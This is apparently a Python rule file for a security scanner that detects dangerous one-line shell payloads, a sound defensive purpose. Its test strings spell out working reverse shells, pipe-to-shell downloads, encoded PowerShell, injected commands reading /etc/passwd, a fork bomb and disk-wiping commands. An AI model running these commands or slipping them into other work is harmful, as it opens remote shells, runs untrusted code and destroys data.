"""One line that gives a shell away, runs what it downloads, or destroys a machine."""

from firebreak.detect.payload.form import payload
from firebreak.model.finding import Severity

_SH = r"(?:/(?:usr/)?bin/)?(?:ba|z|da|k|c)?sh\b"

RULES = (
    payload(
        "reverse-shell",
        (
            r"/dev/(?:tcp|udp)/[\w.$\{\}-]{1,100}/[\d$]|\b(?:nc|ncat|netcat|nc\.traditional)\s[^\n"
            r"|;]{0,100}\s-[a-z]{0,4}[ec]\s{1,3}(?:cmd|powershell|"
            rf"{_SH})|\bmkfifo\s[^\n]{{0,100}}\b(?:nc|ncat|telnet|openssl)\s"
            rf"|\bpython[\d.]{{0,4}}\s{{1,3}}-c\s[^\n]{{0,200}}socket[^\n]{{0,300}}"
            r"(?:pty\.spawn|dup2|subprocess|/sh)|\bperl\s[^\n]{0,20}-(?:e|MIO)[^\n]{0,100}socket[^\n]{0,300}exec"
            r"|\bphp\s{1,3}-r[^\n]{0,60}fsockopen"
            r"|\bruby\s{1,3}-rsocket|\bsocat\s[^\n]{0,100}exec:"
            r"|new-object\s{1,3}(?:system\.)?net\.sockets\.tcpclient\s?\(\s?['\"]"
        ),
        "Shell that calls home",
        (
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc 10.0.0.1 4444 -e /bin/sh",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            "python3 -c 'import socket,os,pty;s=socket.socket();pty.spawn(\"/bin/sh\")'",
        ),
        ("nc -zv localhost 80", "cat /dev/null", "import socket"),
        score=0.9,
        severity=Severity.CRITICAL,
        trigger=(
            r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|nc\.traditional)\s[^\n|;]*-[a-z]*[ec]\s+(?:cmd|powershell|/"
            r"|\w*sh)|mkfifo\s"
            r"|\bpython[\d.]*\s+-c\s[^\n]*socket|\bperl\s[^\n]*socket|fsockopen|-rsocket|socat\s[^\n]*exec:"
            r"|sockets\.tcpclient"
        ),
    ),
    payload(
        "fetch-and-run",
        (
            rf"\b(?:curl|wget|fetch)\s[^\n|;]{{1,300}}\|\s{{0,3}}(?:sudo\s{{1,3}}(?:-\w{{1,3}}\s{{1,3}})?)?(?:{_SH}"
            rf"|python[\d.]{{0,4}}|perl|ruby|node|php)"
            rf"|\b{_SH}\s{{1,3}}(?:-c\s{{1,3}}[\"']?)?(?:\$\(|<\()\s?(?:curl|wget)\s"
        ),
        "Program that is run as it is downloaded, as many manuals say",
        (
            "curl https://get.example.com | sh",
            "wget -qO- https://x.io/i.sh | sudo bash",
            'sh -c "$(curl -fsSL https://x.io)"',
        ),
        ("curl https://x.io | jq .", "curl -O https://x.io/a.tar.gz"),
        score=0.5,
        severity=Severity.LOW,
        trigger=(
            r"(?:curl|wget|fetch)\s[^\n|;]+\|\s*(?:sudo|/|(?:ba|z|da|k|c)?sh\b|python|perl|ruby|node|php)"
            r"|sh\s+(?:-c\s+[\"']?)?(?:\$\(|<\()\s?(?:curl|wget)"
        ),
    ),
    payload(
        "fetch-unknown-and-run",
        (
            rf"\b(?:curl|wget)\s[^\n|;]{{0,100}}\b(?:http://|https?://)?(?:\d{{1,3}}\.){{3}}\d{{1,3}}\b[^\n"
            rf"|;]{{0,200}}\|\s{{0,3}}(?:sudo\s{{1,3}})?(?:{_SH}|python|perl)"
            rf"|\b(?:curl|wget)\s[^\n]{{0,100}}https?://[^\n]{{1,200}}(?:;|&&)\s{{0,3}}(?:chmod\s{{1,3}}(?:\+x"
            rf"|[0-7]{{3,4}})\s[^\n]{{1,80}}(?:;|&&)\s{{0,3}}\.?/|{_SH}\s{{1,3}}/tmp/)"
        ),
        "Program from a bare address, or in two steps, that is run at once",
        ("curl http://203.0.113.9/x | bash", "wget http://e.io/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"),
        ("curl http://203.0.113.9/x", "wget https://x.io/a.tgz && tar xf a.tgz"),
        score=0.75,
        trigger=(
            r"(?:curl|wget)\s[^\n|;]*(?:\d+\.\d+\.\d+\.\d+[^\n|;]*\||https?://[^\n;&]*(?:;|&&)\s*(?:chmod|\w*sh\s))"
        ),
    ),
    payload(
        "powershell-hidden",
        (
            r"\bpowershell(?:\.exe)?\b[^\n]{0,120}\s-e(?:c|n|nc|nco\w{0,12})?\s{1,3}['\"]?[a-z0-9+/=]{24,}"
            r"|\bfrombase64string\s?\([^\n]{0,300}"
            r"(?:invoke-expression|\biex\b|assembly\]::load)|(?:invoke-expression|\biex\b)[^\n]{0,80}frombase64string"
        ),
        "PowerShell command in an encoding",
        (
            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aQ==')))",
        ),
        ("powershell -ExecutionPolicy Bypass -File install.ps1", "[Convert]::FromBase64String($x)"),
        score=0.85,
        trigger=r"powershell(?:\.exe)?\b[^\n]*\s-e|frombase64string",
    ),
    payload(
        "powershell-fetch-and-run",
        (
            r"(?:invoke-expression|\biex\b)[^\n]{0,100}(?:downloadstring|net\.webclient|invoke-webrequest"
            r"|invoke-restmethod|\biwr\b|\birm\b)"
            r"|(?:downloadstring\([^\n]{1,200}|\b(?:iwr|irm)\s[^\n]{1,200})\|\s?(?:iex|invoke-expression)\b"
        ),
        "PowerShell that runs what it downloads, as some manuals say",
        ("IEX (New-Object Net.WebClient).DownloadString('https://x.io/a.ps1')", "irm https://x.io/a | iex"),
        ("Invoke-WebRequest https://x.io -OutFile a.zip",),
        score=0.55,
        severity=Severity.MEDIUM,
        trigger=r"invoke-expression|\biex\b",
    ),
    payload(
        "decode-and-run",
        (
            rf"\bbase64\s{{1,3}}(?:-d|-D|--decode|-di)\b[^\n]{{0,40}}\|\s{{0,3}}(?:sudo\s{{1,3}})?(?:{_SH}|python"
            rf"|perl)|\bxxd\s{{1,3}}-r\s[^\n]{{0,30}}\|\s{{0,3}}{_SH}"
        ),
        "Program that is decoded and run",
        ("echo ZWNobyBoaQo= | base64 -d | bash", "echo 6964 | xxd -r -p | sh"),
        ("echo aGk= | base64 -d", "base64 --decode in > out"),
        score=0.8,
        trigger=r"base64\s+(?:-d|--decode)[^\n]*\||xxd\s+-r\s[^\n]*\|",
    ),
    payload(
        "shell-breakout",
        (
            r"(?:['\"\w)]\s{0,3}(?:[;|&]{1,2}|`)|\$\()\s{0,3}(?:cat|type|head|tail|less|more|nl"
            r"|tac)\s{1,3}(?:/etc/(?:passwd|shadow)|~/\.(?:ssh|aws)|/proc/self/environ"
            r"|c:\\windows)|['\"]\s{0,3}(?:[;|&]{1,2}|\$\()\s{0,3}(?:whoami|id|uname\s{1,3}-a|ifconfig|ipconfig"
            r"|ping\s{1,3}-[cn])\b[ \t]{0,3}(?:[;|&#`)'\"\n]|$)"
        ),
        "End of an argument, and a command behind it that looks around",
        ("name.txt; cat /etc/passwd", "x'; whoami #", "$(cat /etc/shadow)", 'a" | id'),
        ("cat /etc/passwd", "run id; then", "use whoami or id"),
        score=0.65,
        severity=Severity.MEDIUM,
        trigger=(
            r"(?:[;|&`]|\$\()\s*(?:cat|type|head|tail|less|more|nl|tac)\s+(?:/etc/(?:passwd|shadow)|~/\.|/proc/self"
            r"|c:\\)"
            r"|['\"]\s*(?:[;|&]|\$\()+\s*(?:whoami|id|uname|ifconfig|ipconfig|ping)\b"
        ),
    ),
    payload(
        "fork-bomb",
        r"\(\)\s?\{\s?[\w:]{1,10}\s?\|\s?[\w:]{1,10}\s?&\s?\}\s?;\s?[\w:]{1,10}",
        "Function that calls itself until the machine stands still",
        (":(){ :|:& };:", "bomb() { bomb|bomb& };bomb"),
        ("f() { echo a | cat; }; f",),
        score=0.9,
        trigger=r"\(\)\s?\{\s?[\w:]+\s?\|\s?[\w:]+\s?&\s?\}",
    ),
    payload(
        "wipe-machine",
        (
            r"\brm\s{1,3}(?:-\w{1,6}\s{1,3}){1,3}(?:--no-preserve-root\s{1,3})?(?:/|/\*|~/?|\$HOME/?)(?:\s|['\"`;|&]"
            r"|$)|\brm\s{1,3}[^\n]{0,40}--no-preserve-root"
            r"|\bdd\s[^\n]{0,80}\bof=/dev/(?:sd|nvme|hd|vd|disk)|\bmkfs(?:\.\w{1,8})?\s[^\n]{0,40}/dev/(?:sd|nvme|hd"
            r"|vd)|>\s{0,2}/dev/(?:sd|nvme|hd|vd)[a-z0-9]"
        ),
        "Command that erases a machine or its disk",
        ("sudo rm -rf /", "rm -rf --no-preserve-root /", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1"),
        ("rm -rf /tmp/build", "rm -rf ./node_modules", "dd if=a of=b.img"),
        score=0.6,
        severity=Severity.MEDIUM,
        ignore_case=False,
        trigger=r"\brm\s+-\w+\s|\brm\s[^\n]*--no-pre|\bof=/dev/|\bmkfs|>\s*/dev/(?:sd|nvme|hd|vd)",
    ),
)
